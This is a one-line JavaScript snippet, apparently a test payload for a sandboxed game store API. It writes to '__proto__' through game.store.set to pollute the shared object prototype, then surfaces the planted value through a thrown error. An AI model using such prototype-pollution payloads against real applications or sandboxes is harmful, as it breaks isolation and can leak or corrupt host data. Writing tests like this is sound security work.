game.store.set("__proto__", { hostSecret: 1 }); throw new Error("" + ({}).hostSecret);
